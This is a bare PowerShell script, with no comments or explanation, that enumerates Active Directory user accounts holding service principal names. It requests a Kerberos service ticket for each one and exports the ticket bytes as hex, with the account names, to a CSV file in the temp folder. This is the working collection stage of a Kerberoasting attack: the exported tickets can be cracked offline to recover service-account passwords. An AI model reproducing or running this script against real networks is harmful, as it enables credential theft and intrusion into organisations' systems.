Add-Type -AssemblyName System.IdentityModel
$searcher = [adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))'
$searcher.PageSize = 500
$accounts = $searcher.FindAll()

$results = foreach ($a in $accounts) {
    $spn = $a.Properties['serviceprincipalname'][0]
    $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
    $stream = $ticket.GetRequest()
    [pscustomobject]@{
        Account = $a.Properties['samaccountname'][0]
        SPN     = $spn
        Hex     = [BitConverter]::ToString($stream) -replace '-'
    }
}
$results | Export-Csv "$env:TEMP\spn.csv" -NoTypeInformation
